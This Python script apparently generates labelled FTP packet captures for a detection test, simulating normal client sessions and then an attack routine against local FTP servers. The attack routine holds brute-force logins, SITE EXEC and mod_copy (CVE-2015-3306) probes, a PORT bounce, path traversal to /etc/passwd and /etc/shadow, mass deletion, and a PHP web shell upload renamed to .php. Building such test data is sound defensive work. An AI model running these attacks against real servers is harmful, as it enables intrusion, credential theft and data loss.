#!/usr/bin/env python3
"""FTP sessions for the "models that travel" test (issue 24): the same client
mix (python3 ftplib, curl, wget, lftp, ncftp) against vsftpd (127.0.0.21),
ProFTPD (127.0.0.22) or Pure-FTPd (127.0.0.23), all on port 2121.

    gen_travel.py SERVER normal N SEED | gen_travel.py SERVER attack
    (SERVER: vsftpd, proftpd, pureftpd)

Run by make_travel_captures.sh, which starts the servers and tcpdump.

Normal traffic is a series of visits: a simulated user (24 of them, each with
its own loopback address 127.0.1.x, bound through bindshim.so for clients
without a bind option) runs one to three sessions with its favourite client
(70%) or another one; user logins sometimes start with a session whose
password is mistyped (6%), or two of them (1.5%), and ftplib sessions
sometimes mistype inside the session; every set ends with a user per client
who mistypes twice in two sessions, and one who mistypes twice inside one
session. Sessions: anonymous and user logins,
LIST/NLST, passive and active downloads, uploads.

Attacks, each from its own address: brute force inside one session (25
guesses), brute force spread over 10 sessions of 3 guesses, SITE probing,
PORT bounce, path traversal, a NOOP/CWD flood, mass DELE, mass MKD, and
upload-then-rename to a script name.
"""
import ftplib
import io
import os
import random
import subprocess
import sys

SERVERS = {"vsftpd": "127.0.0.21", "proftpd": "127.0.0.22", "pureftpd": "127.0.0.23"}
PORT = 2121
USER, PASSWORD = "ftplearn", "s3cret-Pass"
SHIM = os.environ.get("BINDSHIM", "/tmp/bindshim.so")
WORK = "/tmp/learnftp"
COUNTER = [0]
HOST = None


def unique(prefix):
    COUNTER[0] += 1
    return f"{prefix}-{os.getpid()}-{COUNTER[0]}.txt"


def run(cmd, ip):
    env = dict(os.environ, LD_PRELOAD=SHIM, BIND_ADDR=ip, HOME=WORK + "/clienthome")
    try:
        subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                       timeout=15, env=env, cwd=WORK + "/junk")
    except subprocess.TimeoutExpired:
        pass  # a stuck client is part of real traffic; go on


def connect(ip):
    f = ftplib.FTP(source_address=(ip, 0))
    f.connect(HOST, PORT, timeout=10)
    return f


def ftplib_session(rnd, ip, pw, anon):
    f = connect(ip)
    try:
        if not anon and pw == PASSWORD and rnd.random() < 0.15:
            try:
                f.login(USER, "wrong-" + str(rnd.randint(0, 99)))  # a typo
            except ftplib.error_perm:
                pass
        if anon:
            f.login()
        else:
            f.login(USER, pw)
        f.set_pasv(rnd.random() < 0.7)
        if rnd.random() < 0.2:
            f.sendcmd("SYST")
        if rnd.random() < 0.5:
            f.pwd()
        if rnd.random() < 0.3:
            f.sendcmd("TYPE I")
        if anon:
            if rnd.random() < 0.6:
                f.cwd("pub")
            for _ in range(rnd.randint(0, 2)):
                if rnd.random() < 0.5:
                    f.nlst()
                else:
                    f.retrlines("LIST", lambda _l: None)
            for _ in range(rnd.randint(0, 2)):
                name = rnd.choice(["readme.txt", "small.bin"])
                path = name if f.pwd().endswith("pub") else "pub/" + name
                if rnd.random() < 0.2:
                    f.sendcmd("TYPE I")
                    f.size(path)
                f.retrbinary("RETR " + path, lambda _b: None)
        else:
            if rnd.random() < 0.5:
                f.retrlines("LIST", lambda _l: None)
            if rnd.random() < 0.5:
                f.retrbinary("RETR report.txt", lambda _b: None)
            for _ in range(rnd.randint(0, 2)):
                if rnd.random() < 0.5:
                    f.cwd("/uploads")
                    target = unique("up")
                else:
                    target = "uploads/" + unique("up")
                    f.cwd("/")
                f.storbinary("STOR " + target, io.BytesIO(b"data %d\n" % rnd.randint(0, 9999)))
            if rnd.random() < 0.3:
                f.nlst()
        if rnd.random() < 0.9:
            f.quit()
        else:
            f.close()
    except ftplib.all_errors:
        f.close()


def curl_session(rnd, ip, pw, anon):
    url = f"ftp://{HOST}:{PORT}"
    c = ["curl", "-s", "--max-time", "10"]
    if rnd.random() < 0.3:
        c += ["-P", "-"]  # active mode
    if anon:
        if rnd.random() < 0.4:
            run(c + [url + "/pub/"], ip)
        else:
            run(c + [url + "/pub/" + rnd.choice(["readme.txt", "small.bin"])], ip)
        return
    c += ["-u", f"{USER}:{pw}"]
    choice = rnd.randint(0, 2)
    if choice == 0:
        run(c + [url + "/"], ip)
    elif choice == 1:
        run(c + [url + "/report.txt"], ip)
    else:
        src = f"{WORK}/junk/upload-src.txt"
        with open(src, "w") as fh:
            fh.write("curl upload %d\n" % rnd.randint(0, 9999))
        run(c + ["-T", src, url + "/uploads/" + unique("curl")], ip)


def wget_session(rnd, ip, pw, anon):
    c = ["wget", "-q", "-t", "1", "-T", "10", "-O", "/dev/null"]
    if rnd.random() < 0.3:
        c.append("--no-passive-ftp")
    if anon:
        path = rnd.choice(["/pub/readme.txt", "/pub/small.bin", "/pub/"])
        run(c + [f"ftp://{HOST}:{PORT}{path}"], ip)
    else:
        path = rnd.choice(["/report.txt", "/"])
        run(c + ["--ftp-user", USER, "--ftp-password", pw, f"ftp://{HOST}:{PORT}{path}"], ip)


def lftp_session(rnd, ip, pw, anon):
    cmds = ["set net:max-retries 1", "set net:timeout 5", "set cmd:fail-exit yes"]
    if rnd.random() < 0.3:
        cmds.append("set ftp:passive-mode off")
    if anon:
        cmds += ["cd pub", "ls", "get readme.txt -o /dev/null"] if rnd.random() < 0.5 else ["ls pub"]
    else:
        choice = rnd.randint(0, 2)
        if choice == 0:
            cmds += ["ls"]
        elif choice == 1:
            cmds += ["get report.txt -o /dev/null"]
        else:
            src = f"{WORK}/junk/upload-src.txt"
            with open(src, "w") as fh:
                fh.write("lftp upload\n")
            cmds += ["cd uploads", f"put {src} -o {unique('lftp')}"]
    cmds.append("bye")
    login = ["-u", "anonymous,"] if anon else ["-u", f"{USER},{pw}"]
    run(["lftp", "-p", str(PORT)] + login + ["-e", "; ".join(cmds), HOST], ip)


def ncftp_session(rnd, ip, pw, anon):
    common = ["-P", str(PORT), "-t", "10"]
    if rnd.random() < 0.3:
        common.append("-E")  # active (PORT) mode
    login = [] if anon else ["-u", USER, "-p", pw]
    if anon:
        if rnd.random() < 0.5:
            run(["ncftpls"] + common + ["-l", f"ftp://{HOST}/pub/"], ip)
        else:
            run(["ncftpget"] + common + ["-V", HOST, WORK + "/junk",
                 "/pub/" + rnd.choice(["readme.txt", "small.bin"])], ip)
        return
    choice = rnd.randint(0, 2)
    if choice == 0:
        run(["ncftpls"] + common + login + ["-l", f"ftp://{HOST}/"], ip)
    elif choice == 1:
        run(["ncftpget"] + common + login + ["-V", HOST, WORK + "/junk", "/report.txt"], ip)
    else:
        src = f"{WORK}/junk/{unique('nc')}"
        with open(src, "w") as fh:
            fh.write("ncftp upload\n")
        run(["ncftpput"] + common + login + ["-V", HOST, "/uploads", src], ip)


TOOLS = [ftplib_session, curl_session, wget_session, lftp_session, ncftp_session]


def session(tool, rnd, ip, pw, anon):
    try:
        tool(rnd, ip, pw, anon)
    except (ftplib.all_errors, OSError):
        pass


def normal(n, seed):
    rnd = random.Random(seed)
    with open(WORK + "/home/report.txt", "w") as fh:  # the attacks delete it
        fh.write("report\n")
    done = 0
    while done < n:
        u = rnd.randrange(24)
        ip = f"127.0.1.{10 + u}"
        tool = TOOLS[u % 5] if rnd.random() < 0.7 else rnd.choice(TOOLS)
        anon = rnd.random() < 0.4
        if not anon:
            r = rnd.random()
            typos = 2 if r < 0.015 else 1 if r < 0.075 else 0
            for _ in range(typos):
                session(tool, rnd, ip, "wrong-" + str(rnd.randint(0, 99)), False)
                done += 1
        for _ in range(rnd.choice([1, 1, 1, 2, 2, 3])):
            session(tool, rnd, ip, PASSWORD, anon)
            done += 1
            anon = rnd.random() < 0.4
            tool = tool if rnd.random() < 0.8 else rnd.choice(TOOLS)
    # Always at the end: users who mistype twice, in two sessions (then log
    # in) or inside one session, which must not look like guessing.
    for k, tool in enumerate(TOOLS):
        ip = f"127.0.1.{40 + k}"
        for _ in range(2):
            session(tool, rnd, ip, "wrong-" + str(rnd.randint(0, 99)), False)
        session(tool, rnd, ip, PASSWORD, False)
    f = connect("127.0.1.50")
    for pw in ["wrong-1", "wrong-2", PASSWORD]:
        try:
            f.login(USER, pw)
        except ftplib.error_perm:
            pass
    f.retrlines("LIST", lambda _l: None)
    f.quit()


def attacks():
    ips = (f"127.0.2.{i}" for i in range(1, 100))
    # 1. Brute force inside one session.
    f = connect(next(ips))
    for i in range(25):
        try:
            f.login(["admin", "root", USER, "test", "guest"][i % 5], "guess%d" % i)
        except ftplib.error_perm:
            pass
    f.close()
    # 2. Brute force spread over sessions: 10 connections of 3 guesses each
    # (vsftpd's and ProFTPD's default per-connection limit), one client.
    ip = next(ips)
    for c in range(10):
        f = connect(ip)
        for g in range(3):
            try:
                f.login(USER, "guess-%d-%d" % (c, g))
            except ftplib.error_perm:
                pass
        f.close()
    # 3. SITE probing: command execution, mod_copy (CVE-2015-3306), chmod.
    f = connect(next(ips))
    f.login()
    for cmd in ["SITE HELP", "SITE EXEC /bin/sh -c id", "SITE CPFR /etc/passwd",
                "SITE CPTO /pub/passwd.txt", "SITE CHMOD 777 /pub", "SITE UMASK 000"]:
        try:
            f.sendcmd(cmd)
        except ftplib.all_errors:
            pass
    f.quit()
    # 4. PORT bounce: the data connection aimed at a third host's SMTP port.
    f = connect(next(ips))
    f.login(USER, PASSWORD)
    try:
        f.sendcmd("PORT 10,9,8,7,0,25")
        f.sendcmd("RETR report.txt")
    except ftplib.all_errors:
        pass
    f.quit()
    # 5. Path traversal.
    f = connect(next(ips))
    f.login()
    f.cwd("pub")
    for p in ["../../../etc/passwd", "../../../../etc/shadow"]:
        try:
            f.retrbinary("RETR " + p, lambda _b: None)
        except ftplib.all_errors:
            pass
    f.quit()
    # 6. Command flood.
    f = connect(next(ips))
    f.login()
    for i in range(300):
        f.sendcmd("NOOP" if i % 2 else "CWD /")
    f.quit()
    # 7. Mass DELE: everything in the uploads directory, then more.
    f = connect(next(ips))
    f.login(USER, PASSWORD)
    f.cwd("/uploads")
    names = f.nlst()[:40]
    for n in names + ["../report.txt"]:
        try:
            f.delete(n)
        except ftplib.all_errors:
            pass
    f.quit()
    # 8. Mass MKD.
    f = connect(next(ips))
    f.login(USER, PASSWORD)
    f.cwd("/uploads")
    for i in range(30):
        try:
            f.mkd("d%d-%d" % (os.getpid(), i))
        except ftplib.all_errors:
            pass
    f.quit()
    # 9. Upload, then rename to a script name (a web shell drop).
    f = connect(next(ips))
    f.login(USER, PASSWORD)
    f.cwd("/uploads")
    name = unique("img")
    f.storbinary("STOR " + name, io.BytesIO(b"<?php system($_GET['c']); ?>\n"))
    try:
        f.rename(name, name.replace(".txt", ".php"))
    except ftplib.all_errors:
        pass
    f.quit()


if __name__ == "__main__":
    HOST = SERVERS[sys.argv[1]]
    os.makedirs(WORK + "/junk", exist_ok=True)
    os.makedirs(WORK + "/clienthome", exist_ok=True)
    if sys.argv[2] == "attack":
        attacks()
    else:
        normal(int(sys.argv[3]), int(sys.argv[4]))
